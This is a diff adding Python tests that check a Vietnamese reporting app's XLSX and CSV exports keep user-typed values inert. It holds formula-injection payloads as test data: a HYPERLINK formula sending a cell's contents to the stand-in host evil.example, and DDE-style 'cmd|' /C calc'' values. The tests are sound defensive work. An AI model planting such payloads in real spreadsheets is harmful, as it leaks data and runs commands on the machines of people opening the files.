@@ -521,6 +521,93 @@ def test_csv_quotes_names_with_commas(client_for, reviewer, cycle, reports):
     assert 'Huyện ủy Tiểu Cần, "mới"' in names
 
 
+# What users typed stays inert text in the files ---------------------------------------------
+
+EVIL_LINK = '=HYPERLINK("http://evil.example/?d="&B9,"Xem kế hoạch")'
+
+
+def register_subplan(plan, organisation, actor, number):
+    with time_machine.travel(at(dt.date(2026, 3, 1)), tick=False):
+        subplan_register(
+            plan=plan,
+            organisation=organisation,
+            number=number,
+            issued_on=dt.date(2026, 2, 20),
+            checked=check_upload(SimpleUploadedFile("kh.pdf", PDF), (PDF_TYPE,)),
+            actor=actor,
+        )
+
+
+def formula_cells(workbook) -> list[str]:
+    return [
+        f"{sheet.title}!{cell.coordinate}"
+        for sheet in workbook
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+
+
+def test_xlsx_writes_a_formula_typed_as_a_subplan_number_as_inert_text(
+    client_for, plan, reviewer, reporter, cycle, organisations, reports
+):
+    register_subplan(plan, organisations["TV-HCL"], reporter, EVIL_LINK)
+    Organisation.objects.filter(code="TV-HCK").update(name="@SUM(1+1)*cmd|' /C calc'!A0")
+    workbook = open_xlsx(get(client_for(reviewer), export_url(cycle, "xlsx")))
+    assert formula_cells(workbook) == []
+
+    subplans = workbook["Kế hoạch thực hiện"]
+    line = next(r for r in subplans.iter_rows() if r[1].value == "Huyện ủy Càng Long")
+    assert line[2].value == "'" + EVIL_LINK
+    assert line[2].data_type == "s"
+    assert isinstance(line[0].value, int)  # the row number stays a number
+
+    sheet = workbook["Tình hình báo cáo"]
+    names = [row[1] for row in sheet.iter_rows(min_row=7)]
+    hck = next(cell for cell in names if "SUM" in str(cell.value))
+    assert hck.value == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert hck.data_type == "s"
+    counts = [sheet.cell(row=4, column=c) for c in range(2, 8)]
+    assert all(cell.data_type == "n" and isinstance(cell.value, int) for cell in counts)
+    days_late = next(r for r in sheet.iter_rows(min_row=7) if r[1].value == hck.value)[6]
+    assert days_late.value == 3
+    assert days_late.data_type == "n"
+
+
+def test_csv_neutralises_a_name_that_starts_like_a_formula_and_keeps_numbers_plain(
+    client_for, reviewer, cycle, reports
+):
+    Organisation.objects.filter(code="TV-HCK").update(name="-2+3+cmd|' /C calc'!A0")
+    Organisation.objects.filter(code="TV-HTC").update(name="\t=1+1")
+    response = get(client_for(reviewer), export_url(cycle, "csv"))
+    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    names = [line[1] for line in lines[1:]]
+    assert "'-2+3+cmd|' /C calc'!A0" in names
+    assert "'\t=1+1" in names
+    hck = next(line for line in lines if line[1].startswith("'-2"))
+    assert hck[0].isdigit()
+    assert hck[6] == "3"
+
+
+def test_a_control_character_in_a_stored_subplan_number_does_not_break_the_workbook(
+    client_for, plan, reviewer, reporter, cycle, organisations
+):
+    register_subplan(plan, organisations["TV-HCL"], reporter, "45\x01-KH/\x1bHU")
+    Organisation.objects.filter(code="TV-HCK").update(name="Huyện ủy\x0b Cầu Kè\x7f")
+    client = client_for(reviewer)
+    response = get(client, export_url(cycle, "xlsx"))
+    assert response.status_code == 200
+    workbook = open_xlsx(response)
+    numbers = [r[2] for r in workbook["Kế hoạch thực hiện"].iter_rows(values_only=True)]
+    assert "45-KH/HU" in numbers
+    names = [r[1] for r in workbook["Tình hình báo cáo"].iter_rows(values_only=True)]
+    assert "Huyện ủy Cầu Kè" in names
+    text = get(client, export_url(cycle, "csv")).content.decode("utf-8-sig")
+    assert "Huyện ủy Cầu Kè," in text
+    assert "\x0b" not in text
+    assert "\x7f" not in text
+
+
 # Query budget ---------------------------------------------------------------------------------
 
 
